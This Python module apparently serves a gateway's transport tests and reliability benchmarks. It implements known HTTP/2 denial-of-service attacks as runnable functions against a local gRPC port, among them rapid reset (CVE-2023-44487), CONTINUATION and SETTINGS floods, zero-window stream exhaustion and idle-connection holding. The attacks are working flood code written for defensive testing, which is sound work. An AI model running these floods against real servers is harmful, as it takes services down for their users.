"""The known HTTP/2 attacks on the gateway's gRPC port, as functions a test or a benchmark can run.

Each attack opens its own sockets (raw frames through hyperframe), is bounded in count and time,
targets 127.0.0.1 only, and returns an `Attack`: what the attacker saw (GOAWAY code, closed, the
streams' outcomes) and a one-line summary. `GoodClient` is the well-behaved client that calls
ModelInfer back to back on its own connection meanwhile. Used by tests/transport/test_native_attacks.py
(pass/fail) and benchmarks/h2_attacks.py (the table in docs/reliability.md).
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from collections import Counter
from dataclasses import dataclass, field

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
from transport_helpers import (
    INFER, PREFACE, STREAM_INFER, RawH2, echo_request, grpc_frame, simple_arrays, simple_request,
)

from reliability_helpers import rss_bytes  # noqa: E402 - on the path transport_helpers sets

CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
         7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


class GoodClient:
    """Calls ModelInfer back to back on its own connection and keeps each latency."""

    def __init__(self, url: str) -> None:
        a, b = simple_arrays(1, seed=3)
        self._body = simple_request(a, b).SerializeToString()
        self._url = url
        self.latencies_ms: list[float] = []
        self.failures = 0
        self._stop = threading.Event()
        self._answered = threading.Condition()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        client, sid = RawH2(self._url, timeout_s=10), 1
        while not self._stop.is_set():
            t = time.perf_counter()
            try:
                client.unary(sid, INFER, self._body)
                ok = client.response(sid).status == 0
            except (OSError, TimeoutError, ConnectionError):
                ok = False
            if ok:
                with self._answered:
                    self.latencies_ms.append((time.perf_counter() - t) * 1000)
                    self._answered.notify_all()
                sid += 2
            else:
                self.failures += 1
                client.close()
                client, sid = RawH2(self._url, timeout_s=10), 1
            if sid > 20_001:
                client.close()
                client, sid = RawH2(self._url, timeout_s=10), 1
        client.close()

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(15)

    def mark(self) -> int:
        return len(self.latencies_ms)

    def wait_for(self, calls: int, timeout_s: float) -> None:
        """Until `calls` more calls have been answered, bounded."""
        with self._answered:
            target = len(self.latencies_ms) + calls
            if not self._answered.wait_for(lambda: len(self.latencies_ms) >= target, timeout_s):
                raise TimeoutError(f"the good client made {len(self.latencies_ms) - target + calls} of {calls} calls in {timeout_s} s")

    def since(self, mark: int) -> list[float]:
        return sorted(self.latencies_ms[mark:])


def percentile(values: list[float], q: float) -> float:
    values = sorted(values)
    return values[min(len(values) - 1, int(len(values) * q))] if values else float("nan")


def rss_mib(pid: int) -> float:
    return rss_bytes(pid) / (1 << 20)


@dataclass
class Attack:
    """What the attacker saw."""

    goaway: int | None = None  # the GOAWAY error code received, if any
    closed: bool = False  # the server closed the connection
    streams: Counter = field(default_factory=Counter)  # "status N", "RST <code>", "waiting"
    note: str = ""

    def ended_with(self) -> str:
        if self.goaway is not None:
            return f"GOAWAY {CODES.get(self.goaway, self.goaway)}"
        return "closed" if self.closed else "still open"

    def summary(self) -> str:
        parts = [self.ended_with()] if self.goaway is not None or self.closed or not self.streams else []
        if self.streams:
            parts.append(", ".join(f"{n} {k}" for k, n in sorted(self.streams.items())))
        if self.note:
            parts.append(self.note)
        return "; ".join(parts)


def _ended(client: RawH2, attack: Attack, wait_s: float = 5.0) -> Attack:
    try:
        client.wait(lambda: client.goaway is not None or client.closed, wait_s)
    except (TimeoutError, ConnectionError, OSError):
        pass
    if client.goaway is not None:
        attack.goaway = client.goaway.error_code
    attack.closed = attack.closed or client.closed
    return attack


def _stream_outcomes(client: RawH2, expected: int) -> Counter:
    seen = Counter()
    for state in client.streams.values():
        if state.status is not None:
            seen[f"status {state.status}"] += 1
        elif state.reset is not None:
            seen[f"RST {CODES.get(state.reset, state.reset)}"] += 1
    if expected > sum(seen.values()):
        seen["waiting"] += expected - sum(seen.values())
    return seen


def _send_all(client: RawH2, data: bytes, attack: Attack) -> bool:
    try:
        client.send(data)
        return True
    except OSError as exc:
        attack.note = f"write failed: {exc.strerror}"
        attack.closed = True
        return False


# -- the attacks --

def rapid_reset(url: str, pairs: int = 20_000) -> Attack:
    """HEADERS then RST_STREAM, again and again (CVE-2023-44487), written 1,000 pairs at a time."""
    attack, client, sent = Attack(), RawH2(url), 0
    while sent < pairs:
        out = bytearray()
        for _ in range(1000):
            sid = 1 + 2 * sent
            sent += 1
            out += HeadersFrame(sid, client.request_block(INFER), flags={"END_HEADERS"}).serialize()
            out += RstStreamFrame(sid, error_code=8).serialize()
        if not _send_all(client, bytes(out), attack):
            break
    attack.note = f"{sent:,} pairs written" + (f" ({attack.note})" if attack.note else "")
    _ended(client, attack)
    client.close()
    return attack


def reset_after_request(url: str, triples: int = 16, body: bytes = b"") -> Attack:
    """HEADERS + whole request + RST_STREAM for `triples` streams in one write: calls that were
    admitted and cancelled before their handler's first step."""
    attack, client = Attack(), RawH2(url)
    out = bytearray()
    for i in range(triples):
        sid = 1 + 2 * i
        out += HeadersFrame(sid, client.request_block(INFER), flags={"END_HEADERS"}).serialize()
        out += DataFrame(sid, grpc_frame(body), flags={"END_STREAM"}).serialize()
        out += RstStreamFrame(sid, error_code=8).serialize()
    _send_all(client, bytes(out), attack)
    client.quiet_for(0.2)
    client.close()
    return attack


def continuation_flood(url: str, frames: int = 100_000) -> Attack:
    """A header block that never ends: empty CONTINUATION frames without END_HEADERS."""
    attack, client = Attack(), RawH2(url)
    client.send_frame(HeadersFrame(1, client.request_block(INFER)[:4], flags=set()))
    _send_all(client, ContinuationFrame(1, b"", flags=set()).serialize() * frames, attack)
    _ended(client, attack)
    client.close()
    return attack


def big_header_blocks(url: str, connections: int = 150, block_kib: int = 1024) -> Attack:
    """Many connections, each holding an unfinished header block of `block_kib` KiB."""
    attack, clients = Attack(), []
    for _ in range(connections):
        client = RawH2(url)
        client.send_frame(HeadersFrame(1, client.request_block(INFER)[:4], flags=set()))
        _send_all(client, ContinuationFrame(1, b"a" * 16_384, flags=set()).serialize() * (block_kib // 16), Attack())
        clients.append(client)
    for client in clients:
        one = _ended(client, Attack(), 1.0)
        attack.streams[one.ended_with()] += 1
        client.close()
    return attack


def _literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal without indexing, new name, no Huffman (names and values under 127 bytes)."""
    return b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value


def _hpack_length(size: int) -> bytes:
    if size < 0x7F:
        return bytes((size,))
    out, size = bytearray((0x7F,)), size - 0x7F
    while size >= 0x80:
        out.append((size & 0x7F) | 0x80)
        size >>= 7
    out.append(size)
    return bytes(out)


def error_echo(url: str, requests: int = 4000, path_bytes: int = 3991) -> tuple[Attack, list]:
    """A long :path put in the HPACK table once, then referenced by tiny HEADERS: the server's
    "method not found" answers must not echo it back in full. Returns the attack and the last answer."""
    path = b"/" + b"x" * (path_bytes - 1)
    common = b"\x83\x86" + _literal(b":authority", b"g") + _literal(b"content-type", b"application/grpc") \
        + _literal(b"te", b"trailers")
    first = common + b"\x44" + _hpack_length(len(path)) + path  # :path, literal with incremental indexing
    attack, client = Attack(), RawH2(url)
    client.send_frame(HeadersFrame(1, first, flags={"END_HEADERS", "END_STREAM"}))
    out = b"".join(HeadersFrame(1 + 2 * i, common + b"\xbe", flags={"END_HEADERS", "END_STREAM"}).serialize()
                   for i in range(1, requests))
    t = time.perf_counter()
    last = None
    if _send_all(client, out, attack):
        try:
            last = client.response(1 + 2 * (requests - 1), 30)
            attack.note = f"{requests:,} answered in {time.perf_counter() - t:.2f} s"
        except (TimeoutError, ConnectionError) as exc:
            attack.note = type(exc).__name__
    attack.streams = _stream_outcomes(client, requests)
    _ended(client, attack, 0.1)
    client.close()
    return attack, [client.streams.get(1), last]


def _non_reader(url: str) -> socket.socket:
    host, port = url.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(3)
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    return sock


def _flood(url: str, frame: bytes, count: int) -> Attack:
    """`count` copies of `frame` from a client that never reads its socket."""
    attack, sock = Attack(), _non_reader(url)
    chunk, sent = frame * 1000, 0
    try:
        while sent < count:
            sock.sendall(chunk)
            sent += 1000
        attack.note = f"all {sent:,} frames written"
    except socket.timeout:
        attack.note = f"stalled by TCP after {sent:,} frames (the server stopped reading)"
    except OSError as exc:
        attack.closed = True
        attack.note = f"closed after {sent:,} frames ({exc.strerror})"
    sock.close()
    return attack


def ping_flood_no_read(url: str, count: int = 300_000) -> Attack:
    return _flood(url, PingFrame(0, opaque_data=b"12345678").serialize(), count)


def settings_flood_no_read(url: str, count: int = 300_000) -> Attack:
    return _flood(url, SettingsFrame(0, settings={4: 65535}).serialize(), count)


def settings_many_entries(url: str, entries: int = 87_000, open_streams: int = 100) -> Attack:
    """One SETTINGS frame of `entries` INITIAL_WINDOW_SIZE entries while streams are open."""
    attack, client = Attack(), RawH2(url)
    for i in range(open_streams):  # streams whose window each entry would change
        client.headers(1 + 2 * i, client.request_block(INFER))
    payload = struct.pack(">HL", 4, 1000) * entries
    t = time.perf_counter()
    _send_all(client, struct.pack(">BHBBL", len(payload) >> 16, len(payload) & 0xFFFF, 4, 0, 0) + payload, attack)
    _ended(client, attack)
    attack.note = f"{time.perf_counter() - t:.2f} s"
    client.close()
    return attack


def _calls(client: RawH2, path: str, count: int, message: bytes, messages: int = 1, end_stream: bool = True) -> bytes:
    """``count`` calls of ``path`` on streams 1, 3, 5, ..., each ``messages`` copies of ``message``
    (a whole gRPC frame), half-closed after them unless ``end_stream`` is False."""
    out = bytearray()
    for i in range(count):
        sid = 1 + 2 * i
        out += HeadersFrame(sid, client.request_block(path), flags={"END_HEADERS"}).serialize()
        for k in range(messages):
            last = end_stream and k == messages - 1
            out += DataFrame(sid, message, flags={"END_STREAM"} if last else set()).serialize()
    return bytes(out)


def _zero_window_clients(url: str, connections: int, frames, attack: Attack) -> list[RawH2]:
    """Connections whose initial window is zero (no answer can go out), each sent ``frames(client)``
    at once; a failed write is noted on ``attack``."""
    clients = []
    for _ in range(connections):
        client = RawH2(url, settings={4: 0}, auto_window=False)
        _send_all(client, frames(client), attack)
        clients.append(client)
    return clients


def zero_window(url: str, connections: int = 8, calls: int = 1000, answer_bytes: int = 16_000,
                admitted: int = 128) -> Attack:
    """Connections with a zero initial window whose calls' answers can never go out. Each client
    reads until all but ``admitted`` of its calls have an outcome (the server's stream limit) or
    a bounded time has passed: a loaded server takes a while to refuse thousands of streams."""
    body = grpc_frame(echo_request(b"z" * answer_bytes).SerializeToString())
    attack = Attack()
    clients = _zero_window_clients(url, connections, lambda c: _calls(c, INFER, calls, body), Attack())
    deadline = time.monotonic() + 15

    def settled(client: RawH2) -> bool:
        ended = sum(1 for st in client.streams.values() if st.status is not None or st.reset is not None)
        return ended >= calls - admitted

    for client in clients:
        try:
            client.wait(lambda: settled(client), max(0.1, deadline - time.monotonic()))
        except (TimeoutError, ConnectionError):
            pass  # counted as they are: what has no outcome is "waiting"
        attack.streams += _stream_outcomes(client, calls)
        client.close()
    return attack


def unread_streams(url: str, connections: int = 4, streams: int = 8, messages: int = 100,
                   answer_bytes: int = 16_000, hold_s: float = 3.0) -> Attack:
    """ModelStreamInfer streams on zero-window connections: each sends ``messages`` requests whose
    answers can never go out, keeps the stream open and never reads, for ``hold_s``. What the
    daemon holds is its answers (bounded by the pending-bytes budgets) and requests it has not
    handed over (bounded by the request budgets); streams past a budget are ended."""
    body = grpc_frame(echo_request(b"u" * answer_bytes).SerializeToString())
    attack = Attack()
    clients = _zero_window_clients(
        url, connections, lambda c: _calls(c, STREAM_INFER, streams, body, messages, end_stream=False), attack)
    deadline = time.monotonic() + hold_s
    for client in clients:
        try:
            client.quiet_for(max(0.0, deadline - time.monotonic()))
        except (ConnectionError, OSError):
            attack.closed = True
        attack.streams += _stream_outcomes(client, streams)
        client.close()
    return attack


def unfinished_messages(url: str, streams: int = 64, sent_mib: int = 4, declared_mib: int = 60) -> Attack:
    """Streams that each send part of a large declared message and never the rest."""
    attack, client = Attack(), RawH2(url)
    client.window_update(0, 1 << 30)
    head = b"\x00" + struct.pack(">I", declared_mib << 20)
    chunk = b"q" * (1 << 20)
    for i in range(streams):
        sid = 1 + 2 * i
        client.headers(sid, client.request_block(INFER))
        frames = DataFrame(sid, head + chunk[:-5]).serialize() + DataFrame(sid, chunk).serialize() * (sent_mib - 1)
        if not _send_all(client, frames, attack):
            break
    client.quiet_for(2.0)
    attack.streams = _stream_outcomes(client, streams)
    _ended(client, attack, 0.1)
    client.close()
    return attack


def silent_connections(url: str, count: int = 300, wait_s: float = 15.0) -> Attack:
    """TCP connections that never send a byte; counts those the server closed within `wait_s`."""
    host, port = url.rsplit(":", 1)
    socks = [socket.create_connection((host, int(port))) for _ in range(count)]
    attack, t = Attack(), time.monotonic()
    for sock in socks:
        sock.settimeout(max(0.01, t + wait_s - time.monotonic()))
        try:
            while sock.recv(65536):
                pass
            attack.streams["closed by the server"] += 1
        except (socket.timeout, OSError):
            attack.streams["still open"] += 1
        sock.close()
    attack.note = f"{time.monotonic() - t:.1f} s"
    return attack
